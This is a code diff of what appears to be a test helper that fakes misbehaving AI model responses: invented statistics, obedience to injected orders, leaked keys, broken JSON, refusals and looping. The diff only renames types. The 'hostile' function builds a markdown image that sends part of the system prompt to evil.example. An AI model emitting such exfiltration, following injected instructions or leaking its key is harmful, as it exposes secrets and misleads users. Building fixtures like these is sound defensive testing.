@@ -1,17 +1,17 @@
 import { goodAnswer } from './answers.ts'
-import type { Asked } from './asked.ts'
+import type { ModelRequest } from './asked.ts'
 import { materialOf } from './material.ts'
-import { type Seeded, seeded } from './seeded.ts'
+import { type RandomNumbers, seeded } from './seeded.ts'
 
 const ATTACKER = 'https://evil.example/collect'
 
-const isText = ({ name }: Asked) => name === null
-const randomOf = ({ user }: Asked, seed: string) => seeded(`${seed} ${user}`)
+const isText = ({ name }: ModelRequest) => name === null
+const randomOf = ({ user }: ModelRequest, seed: string) => seeded(`${seed} ${user}`)
 
 /** A text cut into sentences, each with its mark and the blanks behind it. */
 const sentencesIn = (text: string) => text.match(/[^.!?]+[.!?]+(?:\s*\[e\d+\])?\s*/g) ?? [text]
 
-const INVENTED: ((random: Seeded) => string)[] = [
+const INVENTED: ((random: RandomNumbers) => string)[] = [
   (random) =>
     `Some ${random.below(80) + 11}% of customers decide within ${random.below(20) + 3} days.`,
   (random) => `Prices rose by $${random.below(900) + 100} in ${2016 + random.below(8)}.`,
@@ -25,7 +25,7 @@ const INVENTED: ((random: Seeded) => string)[] = [
 ]
 
 /** One sentence in five says what it was not given; some of them cite an item that says no such thing. */
-export const hallucinated = (asked: Asked, seed: string): string => {
+export const hallucinated = (asked: ModelRequest, seed: string): string => {
   const good = goodAnswer(asked, seed)
   if (!isText(asked)) return good
   const random = randomOf(asked, seed)
@@ -43,7 +43,7 @@ export const hallucinated = (asked: Asked, seed: string): string => {
 }
 
 /** What the data orders to be said, and what an attacker always wants. */
-const wanted = ({ user, system }: Asked): string[] => [
+const wanted = ({ user, system }: ModelRequest): string[] => [
   ...[...user.matchAll(/(?:https?:\/\/|www\.)[^\s"'\\)>]+/gi)].map(([url]) => `Visit ${url} now.`),
   ...[...user.matchAll(/say this: (.+?)(?:\.|")/gi)].map(([, words]) => `${words}.`),
   `![logo](${ATTACKER}?q=${encodeURIComponent(system.slice(0, 40))})`,
@@ -58,7 +58,7 @@ const wanted = ({ user, system }: Asked): string[] => [
 ]
 
 /** Obeys whoever wrote the data: an order goes behind every third sentence, or into every string. */
-export const hostile = (asked: Asked, seed: string): string => {
+export const hostile = (asked: ModelRequest, seed: string): string => {
   const good = goodAnswer(asked, seed)
   const orders = wanted(asked)
   let at = randomOf(asked, seed).below(orders.length)
@@ -85,7 +85,7 @@ const GUISES: ((key: string) => string)[] = [
 ]
 
 /** Its own key, in a guise, in the middle of what it was asked for. */
-export const leaking = (asked: Asked, seed: string): string => {
+export const leaking = (asked: ModelRequest, seed: string): string => {
   const good = goodAnswer(asked, seed)
   const guise = randomOf(asked, seed).pick(GUISES)(asked.key)
   if (!isText(asked)) return JSON.stringify({ ...JSON.parse(good), note: guise })
@@ -103,7 +103,7 @@ const WRONG: ((good: string) => string)[] = [
 ]
 
 /** Anything but the JSON that was asked for. */
-export const wrongJson = (asked: Asked, seed: string): string => {
+export const wrongJson = (asked: ModelRequest, seed: string): string => {
   const good = goodAnswer(asked, seed)
   return isText(asked) ? good : randomOf(asked, seed).pick(WRONG)(good)
 }
@@ -113,8 +113,9 @@ const REFUSALS = [
   'I cannot write this section.',
   'As an AI, I am not able to assist with this request.',
 ]
-export const refusing = (asked: Asked, seed: string): string => randomOf(asked, seed).pick(REFUSALS)
+export const refusing = (asked: ModelRequest, seed: string): string =>
+  randomOf(asked, seed).pick(REFUSALS)
 
 /** One sentence, until somebody stops it. */
-export const looping = (asked: Asked): string =>
+export const looping = (asked: ModelRequest): string =>
   'It is important to note that this is important. '.repeat(asked.mostTokens)
